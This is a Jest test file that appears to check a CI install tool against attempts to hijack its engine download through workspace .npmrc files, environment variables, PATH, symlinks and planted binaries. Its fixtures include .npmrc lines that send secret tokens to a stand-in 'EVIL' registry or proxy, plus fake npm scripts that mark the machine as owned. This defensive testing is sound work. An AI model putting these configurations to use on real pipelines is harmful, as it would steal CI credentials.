import { access, mkdir, readFile, symlink, truncate } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from '@jest/globals'
import { pinnedEngine, thisMachine } from '../../src/hyper/install/packages.ts'
import { errorOf } from '../e2e/stand.ts'
import { SECRETS, useRegistries } from './registry-stand.ts'

const stand = useRegistries()
const REGISTRY = { npm_config_registry: 'http://GOOD/' }
const OWN = { 'home/.npmrc': 'registry=http://GOOD/\n' }
/** Writes down how it is called, and answers as npm does. */
const NPM = `#!/bin/sh
{ pwd; env; echo "args: $*"; } > FOLDER/asked
echo '{"registry":"http://GOOD/","globalconfig":"FOLDER/etc/npmrc"}'
`
/** As npm with a prefix in the workspace: its global file lies there, unless another one is named. */
const NPM_WITH_PREFIX = `#!/bin/sh
if [ -n "$npm_config_globalconfig" ]; then echo '{"registry":"http://GOOD/"}'
else echo '{"registry":"http://EVIL/","globalconfig":"FOLDER/workspace/etc/npmrc"}'; fi
`
const STOLEN = '#!/bin/sh\ntouch FOLDER/owned\necho \'{"registry":"http://EVIL/"}\'\n'
const variable = (name: string): string => `\${${name}}`

const exists = (path: string): Promise<boolean> =>
  access(path).then(
    () => true,
    () => false
  )

/** The company's registry was asked for the engine, and for nothing else; it had none, and so the run failed. */
function expectAsked(authorization?: string): void {
  expect(stand.good.received.map(({ method, url }) => `${method} ${url}`)).toEqual([
    expect.stringMatching(/^GET \/hyperdb-mcp-[\w-]+\/-\/hyperdb-mcp-[\w.-]+\.tgz$/)
  ])
  expect(stand.good.received[0]?.headers.authorization).toBe(authorization)
}

describe('1 A .npmrc, and whatever else says where the engine comes from', () => {
  it.each([
    ...Object.keys(SECRETS).map(name => `registry=http://EVIL/${variable(name)}/`),
    'registry=http://EVIL/',
    `registry=http://EVIL/${variable('NPM_TOKEN')}/`,
    `registry = "http://EVIL/${variable('TABLEAU_PAT_SECRET')}/"`,
    `registry=http://user:${variable('TABLEAU_PAT_SECRET')}@EVIL/`,
    `\uFEFFregistry=http://EVIL/${variable('TABLEAU_PAT_SECRET?')}/\r\n`,
    `//GOOD/:_authToken=${variable('TABLEAU_PAT_SECRET')}`,
    `//GOOD/:_authToken=${variable('INPUT_TABLEAU-PAT-SECRET')}`,
    `//GOOD/:_auth=${variable('TABLEAU_PAT_SECRET')}`,
    `//GOOD/:username=x\n//GOOD/:_password=${variable('TABLEAU_PAT_SECRET')}`,
    'globalconfig=workspace-global',
    'userconfig=workspace-user',
    'prefix=.'
  ])('the workspace: %j', async line => {
    const elsewhere = 'registry=http://EVIL/\n'
    const files = {
      'workspace/.npmrc': `${line}\n`,
      'workspace/workspace-global': elsewhere,
      'workspace/workspace-user': elsewhere,
      'workspace/etc/npmrc': elsewhere
    }
    const step = await stand.attack({ files: { ...files, ...OWN }, env: { NPM_TOKEN: 'npm-token' } })
    expect(errorOf(step)).toMatch(/^engine\.download: /)
    expectAsked()
    expect(step.log).toContain('The .npmrc of the workspace is not read')
  })

  it.each([
    'proxy=http://EVIL/',
    'noproxy=registry.test',
    `proxy=http://${variable('TABLEAU_PAT_SECRET')}:x@EVIL/`
  ])('the workspace: %s, and a registry that needs a proxy', async line => {
    const env = { npm_config_registry: 'http://registry.test/', HTTP_PROXY: 'http://GOOD' }
    await stand.attack({ files: { 'workspace/.npmrc': line }, env })
    expect(stand.good.received.map(({ url }) => url)).toEqual([
      expect.stringContaining('http://registry.test/')
    ])
  })

  it.each([
    ['a link to another file', (folder: string) => symlink('../elsewhere', join(folder, 'workspace/.npmrc'))],
    ['a folder', (folder: string) => mkdir(join(folder, 'workspace/.npmrc'))],
    ['a link in a circle', (folder: string) => symlink('.npmrc', join(folder, 'workspace/.npmrc'))]
  ])('the workspace: a .npmrc that is %s', async (_, prepare) => {
    const files = { elsewhere: 'registry=http://EVIL/\n', ...OWN }
    expect(errorOf(await stand.attack({ files, prepare }))).toMatch(/^engine\.download: /)
    expectAsked()
  })

  it.each(Object.keys(SECRETS))('the .npmrc of the user puts %s into no token', async name => {
    const npmrc = `registry=http://GOOD/\n//GOOD/:_authToken=${variable(name)}\n`
    const step = await stand.attack({ files: { 'home/.npmrc': npmrc } })
    expectAsked()
    expect(step.log).toContain(`name ${variable(name)}. No variable that begins with INPUT_, TABLEAU_,`)
  })

  it.each([
    ['the address', `registry=http://GOOD/${variable('GITHUB_TOKEN?')}/`],
    ['user and password of the address', `registry=http://x:${variable('TABLEAU_PAT_SECRET?')}@GOOD/`],
    ['a proxy', `registry=http://registry.test/\nproxy=http://x:${variable('ACTIONS_RUNTIME_TOKEN?')}@GOOD/`]
  ])('the .npmrc of the user puts no sealed variable into %s', async (_, npmrc) => {
    await stand.attack({ files: { 'home/.npmrc': npmrc } })
    expect(stand.good.received).toHaveLength(1)
  })

  it.each([
    ['npm_config_registry', `http://GOOD/${variable('TABLEAU_PAT_SECRET?')}/`],
    ['NPM_CONFIG_//GOOD/:_authToken', variable('INPUT_TABLEAU-PAT-SECRET')]
  ])('the variable %s puts no sealed variable anywhere', async (name, value) => {
    await stand.attack({
      env: { ...REGISTRY, [name.replace('GOOD', `127.0.0.1:${stand.good.port}`)]: value }
    })
    expect(stand.good.received).toHaveLength(1)
  })

  it.each([
    ['npm_config_userconfig', 'FOLDER/workspace/.npmrc'],
    ['NPM_CONFIG_USERCONFIG', '.npmrc'],
    ['npm_config_userconfig', './sub/../.npmrc'],
    ['npm_config_userconfig', 'FOLDER/temp/../workspace/.npmrc'],
    ['npm_config_userconfig', 'FOLDER/link'],
    ['npm_config_userconfig', 'FOLDER/way/.npmrc'],
    ['npm_config_userconfig', 'FOLDER/workspace/outside'],
    ['npm_config_globalconfig', 'FOLDER/workspace/.npmrc'],
    ['npm_config_globalconfig', '.npmrc'],
    ['HOME', 'FOLDER/workspace'],
    ['HOME', 'FOLDER/way'],
    ['HOME', 'FOLDER/workspace/sub']
  ])('%s=%s leads into the workspace and is not read', async (name, value) => {
    const evil = 'registry=http://EVIL/\n'
    const files = { 'workspace/.npmrc': evil, 'workspace/sub/.npmrc': evil, elsewhere: evil }
    const step = await stand.attack({
      files,
      programs: { 'bin/npm': NPM },
      path: 'FOLDER/bin',
      env: { [name]: value },
      async prepare(folder) {
        await symlink('workspace/.npmrc', join(folder, 'link'))
        await symlink('workspace', join(folder, 'way'))
        await symlink('../elsewhere', join(folder, 'workspace/outside'))
      }
    })
    expectAsked()
    expect(step.annotations).toContainEqual({
      level: 'warning',
      message: expect.stringContaining('is not read, because it lies in the workspace')
    })
  })

  it.each([
    ['to the file of the workspace', 'FOLDER/workspace/.npmrc'],
    ['to a link of the workspace that leads out again', 'FOLDER/workspace/outside']
  ])('the .npmrc of the user is a link %s', async (_, target) => {
    const evil = 'registry=http://EVIL/\n'
    await stand.attack({
      files: { 'workspace/.npmrc': evil, elsewhere: evil },
      programs: { 'bin/npm': NPM },
      path: 'FOLDER/bin',
      async prepare(folder) {
        await symlink('../elsewhere', join(folder, 'workspace/outside'))
        await mkdir(join(folder, 'home'))
        await symlink(target.replace('FOLDER', folder), join(folder, 'home/.npmrc'))
      }
    })
    expectAsked()
  })

  it.each([
    'FOLDER/bin',
    '.:FOLDER/bin',
    ':FOLDER/bin',
    'node_modules/.bin:FOLDER/bin',
    'FOLDER/workspace/bin:FOLDER/bin',
    'FOLDER/way/bin:FOLDER/bin',
    'FOLDER/mixed:FOLDER/bin'
  ])('npm is asked outside the workspace, and it is not an npm of the workspace: PATH=%s', async path => {
    let asked = ''
    let owned = false
    await stand.attack({
      files: { 'workspace/.npmrc': 'registry=http://EVIL/\n', 'workspace/package.json': '{}' },
      programs: {
        'bin/npm': NPM,
        'workspace/npm': STOLEN,
        'workspace/bin/npm': STOLEN,
        'workspace/node_modules/.bin/npm': STOLEN
      },
      path,
      async prepare(folder) {
        await symlink('workspace', join(folder, 'way'))
        await mkdir(join(folder, 'mixed'))
        await symlink('../workspace/bin/npm', join(folder, 'mixed/npm'))
      },
      async inspect(folder) {
        asked = await readFile(join(folder, 'asked'), 'utf8')
        owned = await exists(join(folder, 'owned'))
      }
    })
    expectAsked()
    expect(owned).toBe(false)
    expect(asked).toMatch(/^\/.*\/temp\/tpa-[^\n]*\n/)
    expect(asked).toContain('args: config list --json\n')
    expect(asked.match(/^(INPUT|TABLEAU|ACTIONS|GITHUB|STATE|RUNNER)_/gm)).toBeNull()
    expect(asked).not.toMatch(/^PATH=.*workspace/m)
  })

  it.each([
    ['the workspace', {}],
    ['a workspace that holds RUNNER_TEMP, too', { RUNNER_TEMP: 'FOLDER/workspace/temp' }],
    ['a workspace that is HOME, too', { HOME: 'FOLDER/workspace' }]
  ])('the real npm finds no registry in %s', async (_, env) => {
    await stand.attack({
      files: {
        'workspace/.npmrc': 'registry=http://EVIL/\n',
        'workspace/package.json': '{}',
        'workspace/temp/x': '',
        'etc/npmrc': 'registry=http://GOOD/\n'
      },
      // The proxy keeps a run that goes wrong on this machine.
      env: { npm_config_globalconfig: 'FOLDER/etc/npmrc', HTTPS_PROXY: 'http://GOOD/', ...env }
    })
    expectAsked()
  })

  it.each([
    ['by a variable', {}, { npm_config_prefix: 'FOLDER/workspace' }],
    ['by a variable, behind a link', {}, { npm_config_prefix: 'FOLDER/way' }],
    ['by the .npmrc of the user', { 'home/.npmrc': 'prefix=FOLDER/workspace\n' }, {}]
  ])('the prefix of npm lies in the workspace %s: its global file is not read', async (_, files, env) => {
    await stand.attack({
      files: { 'workspace/etc/npmrc': 'registry=http://EVIL/\n', ...files },
      programs: { 'bin/npm': NPM_WITH_PREFIX },
      path: 'FOLDER/bin',
      env,
      prepare: folder => symlink('workspace', join(folder, 'way'))
    })
    expectAsked()
  })

  it.each([
    ['proxy=http://EVIL/', { HTTP_PROXY: 'http://GOOD/' }],
    ['proxy=http://EVIL/', { http_proxy: 'http://GOOD/' }],
    ['https-proxy=http://EVIL/\nproxy=http://EVIL/', { HTTP_PROXY: 'http://GOOD/' }],
    ['noproxy=registry.test', { HTTP_PROXY: 'http://GOOD/' }]
  ])('a proxy of npm does not take over: %j where %j is set', async (line, env) => {
    const files = { 'home/.npmrc': `registry=http://registry.test/\n${line}\n` }
    await stand.attack({ files, env })
    expect(stand.good.received.map(({ url }) => url)).toEqual([
      expect.stringContaining('http://registry.test/')
    ])
  })

  it.each([
    ['RUNNER_TOOL_CACHE', 'FOLDER/workspace/planted'],
    ['RUNNER_TOOL_CACHE', 'FOLDER/way/planted'],
    ['RUNNER_TEMP', 'FOLDER/workspace/planted']
  ])('an engine that the repository brings along is not run: %s=%s', async (name, value) => {
    const { version, arch, executable } = pinnedEngine(thisMachine())
    const place = `workspace/planted/hyperd/${version}/${arch}`
    let owned = true
    const step = await stand.attack({
      files: { [`${place}.complete`]: '' },
      programs: { [`${place}/${executable}`]: '#!/bin/sh\ntouch FOLDER/owned\n' },
      env: { ...REGISTRY, [name]: value },
      prepare: folder => symlink('workspace', join(folder, 'way')),
      async inspect(folder) {
        owned = await exists(join(folder, 'owned'))
      }
    })
    expect(errorOf(step)).toMatch(/^engine\.download: /)
    expectAsked()
    expect(owned).toBe(false)
  })

  it('a .npmrc of the user that is larger than any is none', async () => {
    await stand.attack({
      files: { 'home/.npmrc': 'registry=http://EVIL/\n' },
      programs: { 'bin/npm': NPM },
      path: 'FOLDER/bin',
      prepare: folder => truncate(join(folder, 'home/.npmrc'), 5e9)
    })
    expectAsked()
  })

  it.each([
    [
      'its .npmrc',
      { 'home/.npmrc': `registry=http://GOOD/\n//GOOD/:_authToken=${variable('NPM_TOKEN')}\n` },
      {}
    ],
    [
      'the file that setup-node writes',
      { 'temp/.npmrc': `//GOOD/:_authToken=${variable('NODE_AUTH_TOKEN')}\nregistry=http://GOOD/\n` },
      { NPM_CONFIG_USERCONFIG: 'FOLDER/temp/.npmrc' }
    ],
    [
      'the global file',
      { 'etc/npmrc': `registry=http://GOOD/\n//GOOD/:_authToken=${variable('NPM_TOKEN')}\n` },
      {}
    ]
  ])("the company's own token still works: in %s", async (_, files, env) => {
    await stand.attack({
      files,
      programs: { 'bin/npm': NPM },
      path: 'FOLDER/bin',
      env: { NPM_TOKEN: 'of-the-company', NODE_AUTH_TOKEN: 'of-the-company', ...env }
    })
    expectAsked('Bearer of-the-company')
  })
})
